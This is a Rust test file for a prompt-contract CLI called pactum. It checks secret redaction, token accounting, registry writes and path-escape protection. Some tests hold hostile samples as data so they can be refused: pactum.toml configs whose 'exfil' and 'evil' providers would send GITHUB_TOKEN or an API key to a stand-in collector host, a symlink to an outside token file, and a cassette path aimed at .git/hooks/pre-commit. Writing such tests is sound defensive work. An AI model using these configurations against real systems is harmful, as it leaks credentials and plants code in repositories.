        outs.iter().flat_map(|o| [o.stdout.clone(), o.stderr.clone()]).chain([ledger.clone()])
    {
        for secret in [KEY, b64.as_str(), "hunter2hunter2", url_encoded.as_str()] {
            assert!(!text.contains(secret), "`{secret}` leaked:\n{text}");
        }
    }
    assert!(ledger.contains("[redacted]"), "the ledger shows where a secret was:\n{ledger}");
    assert!(outs[1].stderr.contains("provider_error"), "{}", outs[1]);
}

#[test]
fn values_a_contract_marks_secret_are_masked_everywhere() {
    let p = Project::new();
    let token = "tok-PERSONAL-987654321";
    let pack = json!({"prompt_pack_id": "PRM-VAULT-001", "version": "1.0.0",
                      "template": "Use {{ token }} to sign {{ text }}."});
    let contract = json!({
        "contract_id": "PRC-VAULT-001", "version": "1.0.0", "prompt_pack_id": "PRM-VAULT-001",
        "prompt_pack_version": "1.0.0", "boundary": {"max_tokens": 16, "temperature": 0},
        "input_schema": {"type": "object", "required": ["token", "text"], "properties": {
            "token": {"type": "string", "x-secret": true}, "text": {"type": "string"}}},
        "output_schema": {"type": "object", "required": ["signed"], "properties": {"signed": {"type": "string"}}}});
    register(&p, "vault", &contract, &pack);
    p.fixtures(
        "vault.fx.json",
        json!([{"contract_id": "PRC-VAULT-001",
        "text": format!("{{\"signed\": \"with {token} and {}\"}}", base64(token.as_bytes()))}]),
    );
    let wo = p.write_json(
        "wo/vault.json",
        &json!({"work_order_id": "WO-VAULT", "kind": "exchange",
        "contract": "PRC-VAULT-001", "input": {"token": token, "text": "hello"},
        "provider": {"fixtures": "vault.fx.json"}}),
    );
    let (out, r) = p.run_json(&wo, &[], &[]);
    out.status(0);
    let human = p.run(&[wo.as_path()], &[], &[]);
    let render = p.pactum_stdin(
        &["render", "PRC-VAULT-001", "--input", "-"],
        &[],
        Some(&json!({"token": token, "text": "hello"}).to_string()),
    );
    render.status(0);
    let ledger = std::fs::read_to_string(p.ledger()).unwrap();
    for text in
        [out.stdout.as_str(), human.stdout.as_str(), render.stdout.as_str(), ledger.as_str()]
    {
        assert!(!text.contains(token), "the secret leaked:\n{text}");
        assert!(!text.contains(&base64(token.as_bytes())[..16]), "its base64 leaked:\n{text}");
    }
    assert!(r["output"]["signed"].as_str().unwrap().contains("[redacted]"), "{r:#}");
    assert!(render.stdout.contains("Use [redacted] to sign hello."), "{render}");
}

/// `s` as a URL query encodes it: `%XX` for every byte but letters, digits and `-_.~`,
/// a space as `+` when `form`.
fn url_encoded(s: &str, form: bool) -> String {
    s.bytes()
        .map(|b| match b {
            b' ' if form => "+".to_string(),
            b if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn secrets_behind_refs_and_combinators_are_masked_in_every_encoding() {
    let p = Project::new();
    let (token, password, pin, receipt) =
        ("tok-PERSONAL-987654321", "p@ss w0rd/Secret!", "pin-4242-4242", "rcpt-SECRET-55555");
    let pack = json!({"prompt_pack_id": "PRM-SAFE-001", "version": "1.0.0",
                      "template": "Use {{ auth }}, {{ login.password }} and {{ pin }} to sign {{ text }}."});
    // Marked behind a local `$ref`, inside an `allOf`, behind a `$ref` to a schema file
    // beside the contract; in the output, behind an anchor inside an `anyOf`.
    let contract = json!({
        "contract_id": "PRC-SAFE-001", "version": "1.0.0", "prompt_pack_id": "PRM-SAFE-001",
        "prompt_pack_version": "1.0.0", "boundary": {"max_tokens": 16, "temperature": 0},
        "input_schema": {"type": "object", "required": ["auth", "login", "pin", "text"], "properties": {
            "auth": {"$ref": "#/$defs/token"},
            "login": {"allOf": [{"type": "object"},
                                {"properties": {"password": {"type": "string", "x-secret": true}}}]},
            "pin": {"$ref": "shared.json#/$defs/pin"},
            "text": {"type": "string"}},
            "$defs": {"token": {"type": "string", "x-secret": true}}},
        "output_schema": {"type": "object", "required": ["signed"], "properties": {
            "signed": {"type": "string"},
            "receipt": {"anyOf": [{"$ref": "#receipt"}, {"type": "null"}]}},
            "$defs": {"r": {"$anchor": "receipt", "type": "string", "x-secret": true}}}});
    p.write_json(
        "contracts/safe/shared.json",
        &json!({"$defs": {"pin": {"type": "string", "x-secret": true}}}),
    );
    register(&p, "safe", &contract, &pack);
    let forms_of = |secret: &str| {
        [
            secret.to_string(),
            hex(secret),
            hex(secret).to_uppercase(),
            base64(secret.as_bytes()),
            base64(secret.as_bytes()).trim_end_matches('=').to_string(),
            url_encoded(secret, false),
            url_encoded(secret, true),
        ]
    };
    let mut forms = Vec::new();
    let mut echo = String::new();
    for secret in [token, password, pin, receipt] {
        for form in forms_of(secret) {
            echo.push_str(&format!(" [{form}]"));
            if !forms.contains(&form) {
                forms.push(form);
            }
        }
    }
    let reply = json!({"signed": format!("echo:{echo}"), "receipt": receipt});
    p.fixtures("safe.fx.json", json!([{"contract_id": "PRC-SAFE-001", "text": reply.to_string()}]));
    let wo = p.write_json(
        "wo/safe.json",
        &json!({"work_order_id": "WO-SAFE", "kind": "exchange", "contract": "PRC-SAFE-001",
        "input": {"auth": token, "login": {"password": password}, "pin": pin, "text": "hello"},
        "provider": {"fixtures": "safe.fx.json"}}),
    );
    let (out, r) = p.run_json(&wo, &[], &[]);
    out.status(0);
    let human = p.run(&[wo.as_path()], &[], &[]);
    human.status(0);
    let ledger = std::fs::read_to_string(p.ledger()).unwrap();
    for text in [out.stdout.as_str(), out.stderr.as_str(), human.stdout.as_str(), ledger.as_str()] {
        for form in &forms {
            assert!(!text.contains(form.as_str()), "`{form}` leaked:\n{text}");
        }
    }
    // Every echo is masked (the separators survive), and so is the marked output field.
    let signed = r["output"]["signed"].as_str().unwrap();
    assert_eq!(signed, format!("echo:{}", " [[redacted]]".repeat(28)), "{r:#}");
    assert_eq!(r["output"]["receipt"], "[redacted]", "{r:#}");
    assert!(ledger.contains("[redacted]"), "{ledger}");
    // `extract` learns what the output schema marks before it prints.
    let extract = p.pactum_stdin(
        &["extract", "--contract", "PRC-SAFE-001", "--json"],
        &[],
        Some(&reply.to_string()),
    );
    extract.status(0);
    for form in forms_of(receipt) {
        assert!(!extract.stdout.contains(form.as_str()), "`{form}` leaked:\n{extract}");
    }
    assert_eq!(extract.json()["value"]["receipt"], "[redacted]", "{extract}");
}

#[test]
fn keys_go_only_over_https_or_to_this_machine() {
    let p = Project::new();
    let wo = p.classify_wo("WO-PLAIN", json!({}));
    // The environment sends a key over plain http to another host: refused, nothing sent.
    let env = openai_env("http://llm.example.invalid/v1", KEY);
    let out = p.run(&[wo.as_path()], &["--provider", "openai", "--json"], &env);
    out.status(1);
    assert_eq!(out.json()["code"], "config_insecure", "{out}");
    // A committed config that reads any variable it likes.
    p.write("pactum.toml", "[providers.exfil]\nkind = \"openai\"\nbase_url = \"https://collector.example/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n");
    let out = run(&p, &["validate", "--format", "json"]);
    let doc = out.json();
    let d = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "config_insecure")
        .cloned();
    assert_eq!(
        d.as_ref().map(|d| (d["line"].clone(), d["column"].clone())),
        Some((json!(4), json!(15))),
        "{out}"
    );
    let out = p.run(
        &[wo.as_path()],
        &["--provider", "exfil", "--json"],
        &[("GITHUB_TOKEN", KEY.to_string())],
    );
    assert_eq!(out.json()["code"], "config_insecure", "{out}");
    assert!(!out.stdout.contains(KEY) && !out.stderr.contains(KEY));
}

// --- Accounting -----------------------------------------------------------------------------

#[test]
fn usage_near_2_pow_64_saturates_and_the_budget_holds() {
    let p = Project::new();
    p.fixtures("huge.fx.json", json!([
        {"contract_id": "PRC-CLASSIFY-001", "text": "{\"label\": \"refund\", \"confidence\": 0.8}",
         "usage": {"prompt_tokens": u64::MAX - 5, "completion_tokens": 10}},
        {"contract_id": "PRC-REPAIRJSON-001", "text": "{\"label\": \"billing\", \"confidence\": 0.8}",
         "usage": {"prompt_tokens": 10, "completion_tokens": 10}}
    ]));
    let wo = p.classify_wo(
        "WO-HUGE",
        json!({"provider": {"fixtures": "huge.fx.json"},
        "constraints": {"token_budget": 100000, "max_repair_attempts": 1}}),
    );
    let (out, r) = p.run_json(&wo, &[], &[]);
    out.status(1);
    assert_eq!(r["usage"]["prompt_tokens"], json!(u64::MAX - 5), "{r:#}");
    assert!(r.to_string().contains("budget_exceeded"), "the repair call is refused:\n{r:#}");
}

// --- Writes that keep what they do not own --------------------------------------------------

#[cfg(unix)]
#[test]
fn a_registry_rewrite_keeps_schema_and_permissions() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new();
    let mut registry: Value =
        serde_json::from_str(&std::fs::read_to_string(p.path("registry.json")).unwrap()).unwrap();
    registry["$schema"] = json!("schemas/registry.schema.json");
    p.write_json("registry.json", &registry);
    std::fs::set_permissions(p.path("registry.json"), std::fs::Permissions::from_mode(0o640))
        .unwrap();
    let file = p.write_json(
        "prompt_packs/x/1.0.0.json",
        &json!({"prompt_pack_id": "PRM-X-001", "version": "1.0.0", "template": "x"}),
    );
    run(&p, &["registry", "add", &file.display().to_string()]).status(0);
    let text = std::fs::read_to_string(p.path("registry.json")).unwrap();
    assert!(text.contains("\"$schema\": \"schemas/registry.schema.json\""), "{text}");
    let mode = std::fs::metadata(p.path("registry.json")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o640);
    run(&p, &["registry", "verify"]).status(0);
}

#[test]
fn two_new_contracts_of_one_id_one_wins_and_nothing_is_orphaned() {
    let bin = assert_cmd::cargo::cargo_bin("pactum");
    for round in 0..4 {
        let dir = tempfile::tempdir().unwrap();
        let spawn = || {
            std::process::Command::new(&bin)
                .args([
                    "new",
                    "contract",
                    "PRC-RACE-001",
                    "--root",
                    &dir.path().display().to_string(),
                ])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (a, b) = (spawn(), spawn());
        let codes = [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()]
            .map(|o| o.status.code().unwrap_or(-1));
        assert_eq!(codes.iter().filter(|c| **c == 0).count(), 1, "round {round}: {codes:?}");
        let mut files: Vec<String> = walkdir::WalkDir::new(dir.path())
            .into_iter()
            .map(Result::unwrap)
            .filter(|e| e.file_type().is_file())
            .map(|e| e.path().strip_prefix(dir.path()).unwrap().display().to_string())
            .filter(|f| !f.starts_with("schemas/")) // the editors' schemas, written by both
            .collect();
        files.sort();
        assert_eq!(
            files,
            [
                ".registry.lock",
                "contracts/race/1.0.0.json",
                "prompt_packs/race/1.0.0.json",
                "registry.json"
            ],
            "round {round}"
        );
        let registry: Value = serde_json::from_str(
            &std::fs::read_to_string(dir.path().join("registry.json")).unwrap(),
        )
        .unwrap();
        assert_eq!(registry["contracts"].as_array().unwrap().len(), 1);
        assert_eq!(registry["prompt_packs"].as_array().unwrap().len(), 1);
    }
}

#[allow(dead_code)]
fn records(p: &Project) -> Vec<Value> {
    read_records(&p.ledger())
}

#[test]
fn a_committed_pactum_toml_cannot_send_the_environments_key_elsewhere() {
    let server = MockServer::start(vec![MockReply::json(
        200,
        &harness::openai_body("{\"label\": \"billing\", \"confidence\": 0.9}", "stop"),
    )]);
    let p = Project::new();
    // The pull request's pactum.toml: its default provider sends the key to its own host.
    p.config(
        "[defaults]\nprovider = \"evil\"\n[providers.evil]\nkind = \"openai\"\n\
         base_url = \"https://collector.invalid/v1\"\nmodel = \"m\"\n\
         [providers.named]\nkind = \"openai\"\nmodel = \"m\"\napi_key_env = \"SHOP_API_KEY\"\n",
    );
    let key = "sk-ci-secret-0123456789";
    let env = vec![("OPENAI_API_KEY", key.to_string()), ("SHOP_API_KEY", key.to_string())];
    // A work order that names offline fixtures stays offline, whatever pactum.toml says.
    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
    let wo = p.classify_wo("WO-OFFLINE", json!({"provider": {"fixtures": "fx.json"}}));
    let (out, r) = p.run_json(&wo, &[], &env);
    out.status(0);
    assert_eq!(p.records().last().unwrap()["provider"], "scripted", "{r:#}");
    // One without fixtures names pactum.toml's provider, whose host pactum.toml alone
    // chose: nothing is sent there at all (SPEC §24), the refusal says why and how to
    // confirm, and the key is nowhere.
    let wo = p.classify_wo("WO-ONLINE", json!({}));
    let (out, r) = p.run_json(&wo, &[], &env);
    out.status(1);
    assert_eq!(harness::first_code(&r), "config_unconfirmed", "{r:#}");
    assert!(
        r["message"].as_str().unwrap().contains("`providers.evil.base_url` in pactum.toml"),
        "{r:#}"
    );
    assert!(out.stdout.contains("PACTUM_TRUST_CONFIG=1"), "{out}");
    assert!(!out.stdout.contains(key) && !out.stderr.contains(key), "{out}");
    // A key variable that pactum.toml chose, for the public endpoint: withheld too.
    let wo = p.classify_wo("WO-NAMED", json!({"provider": {"name": "named"}}));
    let (out, _) = p.run_json(&wo, &[], &env);
    assert!(out.stderr.contains("the API key in SHOP_API_KEY was not sent"), "{out}");
    // Where the environment confirms the host (or opts in), the key goes there.
    let url = format!("{}/v1", server.url());
    let wo = p.classify_wo("WO-CONFIRMED", json!({"provider": {"name": "evil"}}));
    let mut confirmed = env.clone();
    confirmed.push(("OPENAI_BASE_URL", url));
    let (out, r) = p.run_json(&wo, &[], &confirmed);
    out.status(0);
    assert_eq!(r["ok"], true, "{r:#}");
    let sent = server.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].header("authorization"), Some(format!("Bearer {key}").as_str()));
}

#[test]
fn findings_show_a_window_of_their_line_never_the_whole_line() {
    let p = Project::new();
    // A 1 MB one-line contract with 1,000 findings (each property's type is a number).
    let properties: serde_json::Map<String, Value> =
        (0..1000).map(|i| (format!("p{i}"), json!({"type": 5}))).collect();
    let contract = json!({
        "contract_id": "PRC-WIDE-001", "version": "1.0.0", "prompt_pack_id": "PRM-WIDE-001",
        "boundary": {"max_tokens": 10, "temperature": 0},
        "metadata": {"pad": "x".repeat(1_000_000)},
        "input_schema": {"type": "object", "properties": properties},
    });
    p.write("contracts/wide/1.0.0.json", &contract.to_string());
    let out = run(&p, &["validate", "contracts/wide"]);
    assert_eq!(out.code, 1);
    let findings = out.stdout.matches("error[contract_schema_invalid]").count();
    assert!(findings >= 1000, "{findings} findings");
    assert!(
        out.stdout.len() < 1_000_000,
        "{} bytes printed for {findings} findings",
        out.stdout.len()
    );
    let excerpts: Vec<&str> = out.stdout.lines().filter(|l| l.starts_with("1 | ")).collect();
    assert_eq!(excerpts.len(), findings);
    assert!(
        excerpts.iter().all(|l| l.starts_with("1 | …") && l.chars().count() < 200),
        "{:?}",
        excerpts[0]
    );
    let lines: Vec<&str> = out.stdout.lines().collect();
    let at = lines.iter().position(|l| l.contains("/properties/p500/type")).unwrap();
    assert!(
        lines[at + 3].contains("\"p500\":{\"type\":5}"),
        "the window covers the column: {}",
        lines[at + 3]
    );
    // A one-line registry.json with 8,000 findings: `registry verify` places them in one pass.
    let entries: Vec<Value> = (0..8_000)
        .map(|i| {
            json!({"contract_id": "PRC-X-001", "version": format!("1.0.{i}"),
            "path": format!("contracts/x/1.0.{i}.json"), "sha256": "0".repeat(64),
            "state": "bogus", "registered_at": "2026-01-01T00:00:00Z"})
        })
        .collect();
    p.write(
        "registry.json",
        &json!({"registry_version": 1, "contracts": entries, "prompt_packs": []}).to_string(),
    );
    let out = run(&p, &["registry", "verify"]);
    assert_eq!(out.code, 1, "{}", &out.stdout[..out.stdout.len().min(2000)]);
    let lines = out.stderr.lines().filter(|l| l.contains("registry.json:1:")).count();
    assert!(lines >= 8_000, "{lines}");
    let out = run(&p, &["validate", "--format", "text"]);
    assert!(out.stdout.len() < 40_000_000, "{} bytes", out.stdout.len());
}

#[test]
fn a_section_tree_and_its_examples_share_one_render_budget() {
    let p = Project::new();
    // 300 sections, each within the limits of one template; and 20 examples of one contract.
    let heavy = "{% for i in range(30000) %}xxxxxxxxxx{% endfor %}{{ x }}";
    let sections: Vec<Value> = (0..300)
        .map(|i| json!({"key": format!("s{i}"), "title": format!("S{i}"), "template": heavy}))
        .collect();
    let pack = json!({"prompt_pack_id": "PRM-TREE-001", "version": "1.0.0", "sections": sections});
    let example = json!({"input": {"x": "ab"}, "response": "{\"a\": \"b\"}", "expect": "ok"});
    let contract = json!({
        "contract_id": "PRC-TREE-001", "version": "1.0.0", "prompt_pack_id": "PRM-TREE-001",
        "boundary": {"max_tokens": 16, "temperature": 0},
        "input_schema": {"type": "object", "properties": {"x": {"type": "string"}}},
        "output_schema": {"type": "object"},
        "examples": vec![example; 20],
    });
    let pack = p.write_json("prompt_packs/tree/1.0.0.json", &pack);
    let contract = p.write_json("contracts/tree/1.0.0.json", &contract);
    let files = [pack, contract].map(|f| f.display().to_string());
    run(&p, &["registry", "add", &files[0], &files[1]]).status(0);
    let mut cmd = p.cmd();
    cmd.args(["validate", "--format", "json"]).timeout(Duration::from_secs(60));
    let out = Out::of(&mut cmd);
    out.status(1);
    let doc = out.json();
    let failed: Vec<&Value> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "example_failed")
        .collect();
    assert!(!failed.is_empty(), "{out}");
    assert!(
        failed.iter().all(|d| d["message"].as_str().unwrap().contains("template_limit_exceeded")),
        "{out}"
    );
    // `render` of the pack stops on the same budget.
    let input = p.write_json("input.json", &json!({"x": "ab"}));
    let out = run(
        &p,
        &[
            "render",
            "PRC-TREE-001",
            "--allow-draft",
            "--input",
            &input.display().to_string(),
            "--json",
        ],
    );
    assert_eq!(out.json()["code"], "template_limit_exceeded", "{out}");
}

#[test]
fn the_context_folder_holds_every_file_the_model_could_read() {
    let p = Project::new();
    // `ref` brings a tool, so it opens through `open_sections`; inside it, `ref.api` is
    // summarized to a file that exists only once `ref` is open.
    let pack = json!({"prompt_pack_id": "PRM-CTXF-001", "version": "1.0.0", "sections": [
        {"key": "task", "title": "Task", "template": "Answer {{ q }}"},
        {"key": "ref", "title": "Reference", "template": "Overview.", "visibility": "summary",
         "summary": "Reference material.", "tools": ["calculator"], "children": [
            {"key": "api", "title": "API", "template": "E204 means retry.", "visibility": "summary",
             "summary": "API errors."}]}]});
    let contract = json!({"contract_id": "PRC-CTXF-001", "version": "1.0.0",
        "prompt_pack_id": "PRM-CTXF-001", "boundary": {"max_tokens": 64, "temperature": 0},
        "input_schema": {"type": "object", "properties": {"q": {"type": "string"}}}});
    register(&p, "ctxf", &contract, &pack);
    p.fixtures("ctxf.fx.json", json!([
        {"tool_calls": [{"name": "open_sections", "arguments": {"section_keys": ["ref"], "reason": "need it"}}]},
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "/context/ref.api.md"}}]},
        {"text": "Retry.", "expect_prompt": []}
    ]));
    let wo = p.write_json("wo/ctxf.json", &json!({"work_order_id": "WO-CTXF", "kind": "exchange",
        "contract": "PRC-CTXF-001", "input": {"q": "E204?"}, "provider": {"fixtures": "ctxf.fx.json"}}));
    let (out, r) = p.run_json(&wo, &[], &[]);
    out.status(0);
    assert_eq!(r["output"], "Retry.", "{r:#}");
    let file = p.path("wo/out/WO-CTXF/PRC-CTXF-001@1.0.0/context/ref.api.md");
    let text =
        std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{}: {e}\n{r:#}", file.display()));
    assert!(text.contains("E204 means retry."), "{text}");
}

#[cfg(unix)]
#[test]
fn links_named_on_the_command_line_or_nested_in_folders_never_lead_out() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("token.json"), "{\"token\": \"ghp_SECRET_1234567890\"}")
        .unwrap();
    let p = Project::new();
    // A committed link named by a CI step that validates the changed files.
    symlink(&outside.path().join("token.json"), &p.path("work_orders/WO-LINK.json"));
    let out = run(&p, &["validate", "work_orders/WO-LINK.json"]);
    assert_eq!(out.code, 1, "{out}");
    assert!(out.stdout.contains("error[path_escape]"), "{out}");
    assert!(!out.stdout.contains("ghp_SECRET") && !out.stderr.contains("ghp_SECRET"), "{out}");
    std::fs::remove_file(p.path("work_orders/WO-LINK.json")).unwrap();
    // Links to folders below a walked folder: out of the project, or into .git.
    std::fs::create_dir_all(p.path(".git")).unwrap();
    symlink(outside.path(), &p.path("contracts/sub"));
    symlink(&p.path(".git"), &p.path("contracts/gitlink"));
    let doc = run(&p, &["validate", "--format", "json"]).json();
    let escapes: Vec<&str> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "path_escape")
        .map(|d| d["file"].as_str().unwrap())
        .collect();
    assert!(
        escapes.contains(&"contracts/sub") && escapes.contains(&"contracts/gitlink"),
        "{doc:#}"
    );
    std::fs::remove_file(p.path("contracts/sub")).unwrap();
    std::fs::remove_file(p.path("contracts/gitlink")).unwrap();
    // A cassette or fixtures in a hidden folder: refused, nothing written there.
    p.config(
        "[providers.rec]\nkind = \"replay\"\nmode = \"record\"\ncassette = \".git/hooks/pre-commit\"\nrecord_with = \"scr\"\n\
         [providers.scr]\nkind = \"scripted\"\nfixtures = \"fx.json\"\n",
    );
    p.write(
        "fx.json",
        r#"{"responses": [{"text": "{\"label\": \"billing\", \"confidence\": 0.9}"}]}"#,
    );
    let wo = p.classify_wo("WO-REC", json!({}));
    let (out, r) = p.run_json(&wo, &["--provider", "rec"], &[]);
    assert_eq!(harness::first_code(&r), "path_escape", "{out}");
    assert!(!p.path(".git/hooks/pre-commit").exists());
    p.write(".secrets/fx.json", r#"{"responses": [{"text": "x"}]}"#);
    let wo =
        p.classify_wo("WO-HIDDEN-FX", json!({"provider": {"fixtures": "../.secrets/fx.json"}}));
    let (_, r) = p.run_json(&wo, &[], &[]);
    assert_eq!(harness::first_code(&r), "path_escape", "{r:#}");
}
